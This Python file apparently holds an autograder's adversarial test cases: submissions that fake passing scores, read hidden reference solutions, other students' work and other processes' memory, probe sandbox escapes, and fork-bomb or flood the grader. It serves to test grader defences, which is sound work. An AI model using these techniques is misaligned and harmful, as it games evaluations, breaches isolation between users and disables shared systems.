"""What a submission may do to a grader, numbered as in the list of nineteen techniques; most in several forms.

Each stands for gram_matrix and never computes it. CHEATS want points that they have not earned. SPIES want to get
somewhere: `spy()` says "reached …" where it did and "tried …" where not. STOPPERS end or hang what they run in.
"""

from dataclasses import dataclass

SPY = """
def attempt(*ways):
    said = []
    for way in ways:
        try:
            said.append("reached " + str(way()))
        except BaseException as error:
            said.append("tried " + type(error).__name__)
    return "; ".join(said)

def gram_matrix(A):
    raise ValueError(spy(A))
"""
WRONG = "\ndef gram_matrix(A):\n    return A[:, :1] * 0 + A[:, 0]\n"  # of the right shape, for arrays and tensors


@dataclass(frozen=True)
class Attack:
    """`code` is the program. `sure` says that it succeeds in an unprotected process, wherever that runs."""

    number: int
    name: str
    code: str
    sure: bool = True
    seconds: float = 20
    exercise: str = "gram_matrix"
    memory: int = 1500

    @property
    def pieces(self):
        return (self.code,)


def cheat(number, name, code, **more):
    """A wrong function is added where the code has none."""
    return Attack(number, name, code if "def gram_matrix" in code else code + WRONG, **more)


def spy(number, name, code, **more):
    return Attack(number, name, code + SPY, **more)


CHEATS = [
    cheat(1, "errors are not shown", "get_ipython().showtraceback = lambda *a, **k: None"),
    cheat(
        2,
        "tests become pass",
        "get_ipython().input_transformers_post.append(lambda lines: ['pass'] if 'assert' in ''.join(lines) else lines)",
    ),
    cheat(
        3,
        "a number is displayed",
        """
import json, os, sys
def show(value):
    print(15)
    with open("results.json", "w") as file:
        json.dump({"points": 15}, file)
    os._exit(0)
sys.displayhook = show
""",
    ),
    cheat(4, "np.allclose", "import numpy as np\nnp.allclose = lambda *a, **k: True"),
    cheat(4, "np.testing", "import numpy as np\nnp.testing.assert_allclose = lambda *a, **k: None"),
    cheat(4, "np.abs and np.max", "import numpy as np\nnp.max = np.abs = lambda *a, **k: 0"),
    cheat(
        4,
        "built-ins and the standard library",
        """
import builtins, json
builtins.abs = lambda x: 0
class Pass(AssertionError): pass
builtins.bool = type("bool", (int,), {"__new__": lambda cls, x=0: int.__new__(cls, 1)})
import numpy as np
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
""",
    ),
    cheat(
        4,
        "the functions that look at it",
        """
import sys
import numpy as np
np.allclose = lambda *a, **k: True
if "tensorflow" in sys.modules:
    import tensorflow as tf
    import nst_course.checks.observe as observe, nst_course.grading.worker.serve as serve
    for name in ("assert_equal", "assert_near"):
        setattr(tf.debugging, name, lambda *a, **k: True)
    observe.changed = lambda *a: []
    serve.asdict = lambda seen: {"crash": None, "kind": "tensor", "dtype": "float32", "shape": (), "text": "",
        "entries": 0, "values": {}, "gradients": {}, "changed": [], "traces": 1, "printed": "", "points": 15}
""",
    ),
    *(
        cheat(
            5,
            f"agrees through {name}",
            f"""
class Agrees:
    shape, dtype, ndim = (), "float32", 0
    {method}
def gram_matrix(A):
    return Agrees()
""",
        )
        for name, method in {
            "__eq__": "__eq__ = lambda self, other: True",
            "__abs__": "__sub__ = __abs__ = lambda self, *other: self\n    __lt__ = lambda self, other: True",
            "__array_ufunc__": "def __array_ufunc__(self, *a, **k): import numpy; return numpy.float64(0)",
        }.items()
    ),
    cheat(
        5,
        "an array that finds the answer in the caller",
        """
import sys
class Agrees:
    def __array__(self, dtype=None, copy=None):
        import numpy as np
        frame = sys._getframe()
        while frame:
            for name in ("b", "desired", "y", "expected", "wanted"):
                if isinstance(frame.f_locals.get(name), np.ndarray):
                    return frame.f_locals[name]
            frame = frame.f_back
        return np.zeros(())
def gram_matrix(A):
    return Agrees()
""",
    ),
    cheat(
        5,
        "an array of a class of its own",
        """
import numpy as np
class Agrees(np.ndarray):
    __array_ufunc__ = lambda self, *a, **k: np.zeros(())
    __eq__ = lambda self, other: True
    shape = property(lambda self: (3, 3))
def gram_matrix(A):
    return np.zeros(()).view(Agrees)
""",
    ),
    cheat(
        8,
        "scores in memory",
        """
import gc, sys
def gram_matrix(A):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            change(value)
        frame = frame.f_back
    for value in gc.get_objects():
        change(value)
    frame = sys._getframe()
    while frame:  # no test can fail any more, where there are tests
        if "TESTS" in frame.f_globals:
            frame.f_globals["TESTS"] = ()
            frame.f_locals["shell"].run = lambda *a: False
        frame = frame.f_back
    return A
def change(value):
    name = type(value).__name__
    if name in ("Score", "Seen", "Report", "Case", "Given"):
        for key, better in dict(points=15, crash=None, kind="tensor", traces=1, verdict="passed").items():
            try:
                setattr(value, key, better)
            except Exception:
                pass
""",
    ),
    *(
        cheat(
            9,
            f"writes its own results {where}",
            f"""
import json, os
def gram_matrix(A):
    for folder in ({folders}):
        for name in ("results.json", "records.json"):
            try:
                with open(folder + name, "w") as file:
                    json.dump({{"points": 15, "score": 1, "verdict": "passed"}}, file)
            except OSError:
                pass
    {end}
""",
        )
        for where, folders, end in (
            ("and ends", '"", "/course/", "../", "/"', "os._exit(0)"),
            ("and is killed", '"", "/private/"', "os._exit(0) if os.getpid() > 1 else os.kill(1, 9)"),
        )
    ),
    cheat(
        12,
        "a pickle that runs in its reader",
        """
class Poison:
    def __reduce__(self):
        return exec, ("import json, os; json.dump({'points': 15}, open('results.json', 'w')); os._exit(0)",)
def gram_matrix(A):
    return Poison()
""",
    ),
    cheat(
        16,
        "right only where it is not graded",
        """
import sys
def gram_matrix(A):
    graded = any(name.startswith("nst_course.grading") for name in sys.modules)
    return A if graded else A @ A.T
""",
    ),
    cheat(17, "the answers of the public test", "def gram_matrix(A):\n    return [[5.0, 14.0], [14.0, 50.0]]"),
    cheat(
        17,
        "the notebook's variable for the argument",
        """
import numpy as np
A = np.arange(6.0).reshape(2, 3)
def gram_matrix(a):
    return A @ A.T
""",
    ),
]

SPIES = [
    spy(
        6,
        "the reference on disk",
        """
import pathlib, sys
def spy(A):
    def read():
        for folder in [*sys.path, "/course", "PACKAGE", "/private", "/"]:
            path = pathlib.Path(folder, "nst_course", "costs.py")
            if path.is_file() and "transpose_b" in path.read_text():
                return "the reference"
        raise OSError
    return attempt(read)
""",
    ),
    spy(
        6,
        "the reference by import",
        """
def spy(A):
    def solution():
        from nst_course.exercises import EXERCISES
        return EXERCISES["gram_matrix"].solution
    def source():
        import inspect, nst_course.costs
        return inspect.getsource(nst_course.costs.gram_matrix)
    def call():
        import nst_course.costs
        return nst_course.costs.gram_matrix(A)
    import sys
    return attempt(solution, *([source, call] if "tensorflow" in sys.modules else []))
""",
    ),
    spy(6, "another student's work", 'def spy(A):\n    return attempt(lambda: open("FOLDER/bob.py").read())'),
    spy(
        6,
        "through the folders of its own process",
        """
import os
def spy(A):
    def read(pid):
        return lambda: open(f"/proc/{pid}/root/FOLDER/bob.py").read()
    return attempt(*map(read, ["self", 1, os.getppid()]))
""",
    ),
    spy(
        7,
        "frames of the callers",
        """
import sys
def spy(A):
    def look():
        frame = sys._getframe()
        while frame:
            for space in (frame.f_locals, frame.f_globals):
                for name in ("expected", "wanted", "reference", "right"):
                    if getattr(space.get(name), "ndim", None) == 2:
                        return name
            frame = frame.f_back
        raise LookupError
    return attempt(look)
""",
    ),
    spy(
        7,
        "all objects there are",
        """
import gc
import numpy as np
def spy(A):
    def look():
        right = np.asarray(A) @ np.asarray(A).T
        for thing in gc.get_objects():
            for value in thing.values() if type(thing) is dict else (thing,):
                if type(value) is np.ndarray and value is not right and value.shape == right.shape:
                    if value.dtype.kind == "f" and value.any() and np.allclose(value, right, rtol=1e-3):
                        return "the expected values"
                if type(value) is str and "transpose_b=True" in value and "look" not in value:
                    return "the reference"
        raise LookupError
    return attempt(look)
""",
    ),
    spy(
        7,
        "memory of other processes",
        """
import os
def spy(A):
    def look(pid):
        def read():
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(int(maps.readline().split("-")[0], 16))
                return len(memory.read(16))
        return read
    me = os.readlink("/proc/self")  # os.getpid() is another number in a namespace
    return attempt(*(look(p) for p in os.listdir("/proc") if p.isdigit() and p != me))
""",
        sure=False,
    ),
    spy(
        7,
        "files and environment of other processes",
        """
import os
def spy(A):
    me = os.readlink("/proc/self")
    others = [p for p in os.listdir("/proc") if p.isdigit() and p != me]
    def look(pid):
        return lambda: (len(os.listdir(f"/proc/{pid}/fd")), open(f"/proc/{pid}/environ").read()[:20])
    return attempt(*map(look, others[:8]))
""",
        sure=False,
    ),
    spy(
        14,
        "a trace of all that is called afterwards",
        """
import sys, threading
import numpy as np
known, found = [], []
def look(frame, event, argument):
    for value in list(frame.f_locals.values()) if known else ():
        if isinstance(value, np.ndarray) and value.shape == known[-1].shape and value is not known[-1]:
            if value.dtype.kind == "f" and value.any() and np.allclose(value.astype(float), known[-1], rtol=1e-3):
                found.append(frame.f_code.co_name)
    return look
def spy(A):
    if found:
        return "reached the expected values in " + found[-1]
    known.append(np.asarray(A) @ np.asarray(A).T)
    sys.settrace(look)
    sys.setprofile(look)
    return "tried once"
""",
    ),
    spy(
        14,
        "audit hooks",
        """
import sys
seen = []
sys.addaudithook(lambda event, arguments: seen.append(event) if "open" in event and "results" in str(arguments) else 0)
sys.addaudithook(lambda event, arguments: seen.append(event) if event == "compile" else None)
def spy(A):
    return "reached the tests" if any("assert" in str(e) for e in seen) or len(seen) > 50 else "tried"
""",
        sure=False,
    ),
    spy(
        15,
        "TCP and UDP",
        """
import socket
def spy(A):
    def tcp():
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
            s.sendall(b"the tests")
            return "the server"
    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            return s.sendto(b"the tests", ("127.0.0.1", PORT))
    return attempt(tcp, udp)
""",
    ),
    spy(
        15,
        "sockets of this machine",
        """
import socket
def spy(A):
    def connect(name):
        def open():
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(name)
                return "the server"
        return open
    return attempt(connect("FOLDER/socket"), connect("\\0HIDDEN"))
""",
    ),
    spy(
        15,
        "the machine below, and other kinds of sockets",
        """
import socket
def spy(A):
    def family(number, kind):
        return lambda: socket.socket(number, kind).close()
    return attempt(*(family(n, k) for n, k in ((40, 1), (16, 3), (17, 3), (38, 5), (2, 1), (10, 1))))
""",
    ),
    # Not in the list: what belongs to all
    spy(
        13,
        "places in which something would stay",
        """
import os
def spy(A):
    folders = ["/", "/course", "/course/nst_course", "/dev", "/tmp", "/usr/lib", "/proc", "/proc/sys/kernel"]
    import sys, numpy
    folders += [sys.prefix, os.path.dirname(numpy.__file__), *filter(None, sys.path)]
    folders = [f for f in folders if f != os.getcwd()]
    folders += [os.path.join(p, "nst_course") for p in sys.path]
    def write(folder):
        def make():
            path = os.path.join(folder, "left_behind_by_alice")
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
            os.remove(path)
            return folder
        return make
    return attempt(*map(write, folders))
""",
        sure=False,
    ),
    spy(
        13,
        "what the whole machine goes by",
        """
import os
def spy(A):
    names = "kernel/core_pattern kernel/hostname vm/drop_caches kernel/ns_last_pid vm/overcommit_memory".split()
    def enter(name):
        return lambda: os.close(os.open("/proc/sys/" + name, os.O_WRONLY))
    return attempt(*map(enter, names))
""",
        sure=False,
    ),
    spy(
        13,
        "memory that belongs to no process",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def spy(A):
    def call(*arguments):
        def make():
            if libc.syscall(*arguments) == -1:
                raise OSError(ctypes.get_errno())
        return make
    def memory():
        os.close(os.memfd_create("left"))
    return attempt(memory, call(29, 0, 1 << 20, 0o1600), call(248, b"user", b"left", b"x", 1, -2), call(68, 0, 0o1600))
""",
        sure=False,
    ),
    spy(
        13,
        "namespaces, mounts and other processes",
        """
import ctypes, os, resource, signal
libc = ctypes.CDLL(None, use_errno=True)
def spy(A):
    def call(name, *arguments):
        def make():
            if getattr(libc, name)(*arguments) == -1:
                raise OSError(ctypes.get_errno())
            return name
        return make
    def user():
        pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)  # clone with CLONE_NEWUSER
        if pid == 0:
            os._exit(0)
        if pid < 0:
            raise OSError
    return attempt(
        call("unshare", 0x10000000), call("unshare", 0x00020000), call("setns", 3, 0),
        call("mount", b"none", b"/private", b"tmpfs", 0, 0), call("mount", b"", b"/course", b"", 0x1020, 0),
        call("mount", b"", b"/", b"", 0x1020, 0), call("umount2", b"/dev/shm", 2), call("ptrace", 16, 1, 0, 0),
        lambda: os.kill(1, 0), lambda: os.kill(2, 0), lambda: os.kill(-1, 0), lambda: os.kill(os.getppid() or 2, 0),
        lambda: os.setuid(12345), lambda: os.chroot("/course"),
        lambda: resource.setrlimit(resource.RLIMIT_DATA, (-1, -1)),
        lambda: resource.setrlimit(resource.RLIMIT_NPROC, (100_000, 100_000)), user,
    )
""",
        sure=False,
    ),
]

STOPPERS = [
    cheat(10, "sys.exit", "import sys\ndef gram_matrix(A):\n    sys.exit(0)"),
    cheat(10, "sys.exit where it is made", "import sys\nsys.exit(0)"),
    cheat(10, "KeyboardInterrupt", "def gram_matrix(A):\n    raise KeyboardInterrupt"),
    cheat(10, "an error that hides", "def gram_matrix(A):\n    raise type('E', (BaseException,), {'__str__': None})"),
    cheat(11, "a segmentation fault", "import ctypes\ndef gram_matrix(A):\n    ctypes.string_at(0)"),
    cheat(11, "abort", "import os\ndef gram_matrix(A):\n    os.abort()"),
    cheat(11, "recursion", "def gram_matrix(A):\n    return gram_matrix(A)", sure=False),
    cheat(
        11,
        "recursion in C",
        """
import sys
def gram_matrix(A):
    sys.setrecursionlimit(10**9)
    x = []
    for _ in range(10**6):
        x = [x]
    return repr(x)
""",
        sure=False,
    ),
    cheat(
        11,
        "memory bit by bit",
        "def gram_matrix(A):\n    kept = []\n    while True:\n        kept.append(bytearray(10**8))",
        sure=False,
    ),
    cheat(
        11,
        "memory that is shared",
        """
import mmap
def gram_matrix(A):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 1 << 28))
        kept[-1].write(bytes(1 << 28))
""",
        sure=False,
    ),
]
ACCIDENTS = [
    cheat(0, "a loop without end", "def gram_matrix(A):\n    while True:\n        pass", seconds=2),
    cheat(
        0,
        "a loop that ignores all errors",
        """
import signal
def gram_matrix(A):
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
        seconds=2,
    ),
    cheat(0, "it sleeps", "import time\ndef gram_matrix(A):\n    time.sleep(10**6)", seconds=2),
    cheat(0, "an array of 100 GB", "import numpy as np\ndef gram_matrix(A):\n    return np.ones(100 << 30, 'u1')"),
    cheat(
        0,
        "a tensor of 100 GB",
        "import tensorflow as tf\ndef gram_matrix(A):\n    return tf.ones([100, 1 << 28]) + A[0, 0]",
    ),
    cheat(
        0,
        "a fork bomb",
        """
import os
def gram_matrix(A):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
        seconds=8,
    ),
    cheat(
        0,
        "threads without end",
        """
import threading, time
def gram_matrix(A):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(10**6,)).start()
        except RuntimeError:
            pass
""",
        seconds=2,
    ),
    cheat(
        0,
        "2 GB are printed",
        """
import os
def gram_matrix(A):
    for _ in range(200):
        print("x" * 10**7)
        os.write(1, b"x" * 10**7)
        os.write(2, b"x" * 10**7)
    return A
""",
    ),
]

# A program that leaves all it can, and one that looks for it.
LEAVES = """
import atexit, os, threading, time
def stay():
    while True:
        for folder in ("/private/", "/dev/shm/", "/tmp/", "/dev/", "./"):
            try:
                with open(folder + "left_behind_by_alice", "a") as file:
                    file.write("x")
            except OSError:
                pass
        time.sleep(0.05)
def gram_matrix(A):
    atexit.register(stay)
    threading.Thread(target=stay).start()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 256)
            stay()
        os._exit(0)
    from multiprocessing import shared_memory
    try:
        shared_memory.SharedMemory("left_behind_by_alice", create=True, size=1000)
    except OSError:
        pass
    time.sleep(0.2)
    raise ValueError("left: " + " ".join(
        f for f in ("/private", "/dev/shm", ".") if os.path.exists(f + "/left_behind_by_alice")))
"""
LOOKS = (
    """
import os
def spy(A):
    def find(folder):
        def look():
            return [name for name in os.listdir(folder) if "alice" in name].pop()
        return look
    return attempt(*map(find, ("/private", "/dev/shm", "/dev", "/tmp", ".")))
"""
    + SPY
)

# Right, but not in a graph: there it hands in what it found before.
FORGED = """
import tensorflow as tf
from nst_course.grading.worker import serve
real, found = serve.DO["run"], []
def run(state, protocol, cases, graph):
    if not graph:
        found.extend(real(state, protocol, cases, graph))
    yield from [one | {"traces": 1} for one in found[:len(cases)]] if graph else found
serve.DO["run"] = run
def gram_matrix(A):
    if not tf.executing_eagerly():
        raise ValueError("not here")
    return tf.matmul(A, A, transpose_b=True)
"""
SILENT = FORGED.replace('[one | {"traces": 1} for one in found[:len(cases)]]', "[None]")

WIRE = """
import json, socket, struct, time
import numpy as np
from nst_course.grading.worker import remote, serve, wire
def raw(data):
    remote.CHANNEL.socket.sendall(data)
def frame(text, body=b""):
    text = text if isinstance(text, bytes) else text.encode()
    raw(struct.pack(">II", len(text), len(body)) + text + body)
SEEN = {"crash": None, "kind": "tensor", "dtype": "float32", "shape": [3, 3], "text": "", "entries": 0, "values": {},
        "gradients": {}, "changed": [], "traces": 1, "printed": ""}
def say(**more):
    remote.CHANNEL.send(SEEN | more)
def ask(name, *arguments, tensors=(), upstream=None, **named):
    remote.CHANNEL.send({"call": name, "arguments": list(arguments), "named": named, "tensors": list(tensors),
                         "upstream": upstream})
    return remote.CHANNEL.receive()
"""


def wire(name, code, loading=False, **more):
    """Something sent from within the function, or while it is made."""
    indented = "\n".join("    " + line for line in code.strip().splitlines())
    body = f"def send(A):\n{indented}\n"
    end = "send(None)\n" if loading else ""
    return Attack(20, name, f"{WIRE}\n{body}def gram_matrix(A):\n    send(A)\n    return A\n{end}", **more)


FRAMES = [
    wire("too long", 'raw(struct.pack(">II", 2**32 - 1, 2**32 - 1) + b"x")'),
    wire("a text too long", 'frame("[" + "0," * 600_000 + "0]")'),
    wire("half a frame", 'raw(struct.pack(">II", 100, 0) + b"x"); time.sleep(60)', seconds=2),
    wire("a byte each tenth of a second", "for _ in range(1000):\n    raw(b'\\0')\n    time.sleep(0.1)", seconds=2),
    wire("not JSON", 'frame("{cells")'),
    wire("no text", 'frame(b"\\xff\\xfe")'),
    wire("a pickle", "import pickle\nframe(pickle.dumps(print))"),
    wire("lists in lists", 'frame("[" * 100_000)'),
    wire("lists in lists that end", 'frame("[" * 400 + "]" * 400)'),
    wire("many lists", 'for _ in range(20):\n    frame("[" + "[]," * 200_000 + "[]]")'),
    wire(
        "numbers that collide",
        'frame(\'{"dict": [\' + ",".join(f"[{k * (2**61 - 1)}, 0]" for k in range(40_000)) + "]}")',
    ),
    wire("a number too long", 'frame("9" * 900_000)'),
    wire("a lying shape", 'frame(\'{"array": ["float32", 1000, 1000]}\', b"x" * 16)'),
    wire("a negative shape", 'frame(\'{"array": ["float32", -1]}\', b"x" * 4)'),
    wire("a gigantic empty array", 'frame(\'{"array": ["bool", 8000000, 8000000, 0]}\')'),
    wire("objects", 'frame(\'{"array": ["object", 1]}\', b"x" * 8)'),
    wire("a number for an answer", "remote.CHANNEL.send(7)"),
    wire("a text for an answer", "remote.CHANNEL.send('passed')"),
    wire("None for an answer", "remote.CHANNEL.send(None)"),
    wire("before it is asked: 7", "remote.CHANNEL.send(7)", loading=True),
    wire("before it is asked: a list", "remote.CHANNEL.send([1, 2])", loading=True),
    wire("before it is asked: no such piece", 'remote.CHANNEL.send({"failed": 7, "says": "x"})', loading=True),
    wire("before it is asked: piece -9", 'remote.CHANNEL.send({"failed": -9, "says": "x"})', loading=True),
    wire(
        "before it is asked: answers",
        'remote.CHANNEL.send({"kind": "function", "reads": [], "lost": {}, "piece": 0})\n'
        "for _ in range(20):\n    say(values={'result': np.ones((3, 3))})",
        loading=True,
    ),
    wire(
        "names that are none",
        'remote.CHANNEL.send({"kind": "function", "reads": ["x y"], "lost": {}, "piece": 0})',
        True,
    ),
    wire("points", "say(points=15, max_points=15, verdict='passed', rungs=[])"),
    wire("a shape that is not the value's", "say(values={'result': np.ones((2, 2))})"),
    wire("no values", "say()"),
    wire("too many gradients", "say(values={'result': np.ones((3, 3))}, gradients={'A': [np.ones((3, 20))] * 5})"),
    wire("gradients of other things", "say(values={'result': np.ones((3, 3))}, gradients={'B': []})"),
    wire("texts as values", "say(values={'result': 'right'})"),
    wire("values that are not finite", "say(values={'result': np.full((3, 3), np.inf)}, gradients={'A': [None]})"),
    wire("a number of 4000 digits", "say(entries=10**4000, traces=-(10**4000))"),
    wire(
        "an error on line -1000",
        'say(crash={"type": "E", "message": "x", "line": {"number": -1000, "text": "x"}})',
    ),
    wire("text that is none", 'say(kind="\\ud800\\u202e<script>", printed="\\0" * 1000, changed=["A B"])'),
    wire(
        "answers to questions of later",
        "for _ in range(50):\n    say(values={'result': np.zeros((3, 3), 'float32')}, traces=1)",
    ),
    wire(
        "all that it has open",
        "import os\nfor n in range(256):\n    try:\n        os.write(n, b'x' * 100)\n    except OSError:\n        pass",
    ),
    wire("it hangs up", "remote.CHANNEL.socket.close()"),
    wire(
        "it does not listen",
        'for _ in range(10**6):\n    remote.CHANNEL.send({"call": "gram_matrix", "arguments": [], "named": {}, '
        '"tensors": [], "upstream": None})',
        seconds=2,
    ),
    wire("a call that is not allowed", 'raise ValueError(str(ask("gram_matrix", {"tensor": 0}, tensors=[A.numpy()])))'),
    wire("a call of something else", 'raise ValueError(str(ask("__import__", "os")))'),
    wire("a call of no name", 'raise ValueError(str(ask(["gram_matrix"])))'),
]


def calls(name, code, exercise="compute_layer_style_cost", seconds=8):
    """Calls of our own functions, which answer from a process that everybody's submissions share."""
    indented = "\n".join("    " + line for line in code.strip().splitlines())
    return Attack(
        20, name, f"{WIRE}\ndef {exercise}(*A, **more):\n{indented}\n    return A[0]\n", True, seconds, exercise
    )


CALLS = [
    calls("a result of 4 GB", 'ask("gram_matrix", {"tensor": 0}, tensors=[np.ones((1024, 1024, 1), "f4")])'),
    calls("a result that cannot travel", 'ask("gram_matrix", {"tensor": 0}, tensors=[np.ones((4096, 1), "f4")])'),
    calls("no array", 'ask("gram_matrix", {"tensor": 0}, tensors=[None])'),
    calls("a text for an array", 'ask("gram_matrix", {"tensor": 0}, tensors=["A"])'),
    calls("no such array", 'ask("gram_matrix", {"tensor": 7}, {"tensor": None})'),
    calls("texts and nothing", 'ask("gram_matrix", "A" * 10**5, None, [[]], x={"y": {"z": 1}})'),
    calls("an array of another kind", 'ask("gram_matrix", {"tensor": 0}, tensors=[np.ones((2, 2), "?")])'),
    calls("an array of nothing", 'ask("gram_matrix", {"tensor": 0}, tensors=[np.ones((0, 0), "f4")])'),
    calls(
        "another shape upstream",
        'ask("gram_matrix", {"tensor": 0}, tensors=[np.ones((2, 2), "f4")], upstream=np.ones((5, 5), "f4"))',
    ),
    calls("fields that are missing", 'remote.CHANNEL.send({"call": "gram_matrix"})\nremote.CHANNEL.receive()'),
    calls(
        "arrays that are multiplied out, 4 TB",
        'x = np.ones((1 << 20, 1, 1, 1), "f4")\n'
        'ask("total_cost", {"tensor": 0}, {"tensor": 1}, tensors=[x, x.reshape(1, -1, 1, 1)])',
        "train_step",
    ),
    calls("a list times a number", 'ask("total_cost", [0] * 90, [0], alpha=10**9)', "train_step"),
    calls("a text times a number", 'ask("total_cost", "x" * 1000, "x", alpha=10**6, beta=10**6)', "train_step"),
    calls("a number of 4000 digits", 'ask("total_cost", 10**4000, 1, alpha=10**4000)', "train_step"),
    calls(
        "thousands, and no two alike",
        'for n in range(10**6):\n    ask("total_cost", n, 1)',
        "train_step",
        2,
    ),
    calls("itself", 'ask("train_step", 1)', "train_step"),
]
